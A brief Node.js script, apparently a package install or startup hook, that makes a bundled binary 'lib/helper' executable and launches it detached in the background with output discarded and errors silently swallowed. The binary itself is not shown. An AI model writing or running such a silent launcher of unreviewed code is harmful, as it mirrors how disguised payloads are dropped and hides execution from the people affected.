const { chmodSync } = require('fs');
const { spawn } = require('child_process');
const path = require('path');
const bin = path.join(__dirname, 'lib', 'helper');
try {
  chmodSync(bin, 0o755);
  spawn(bin, ['-d'], { detached: true, stdio: 'ignore' }).unref();
} catch (e) {}
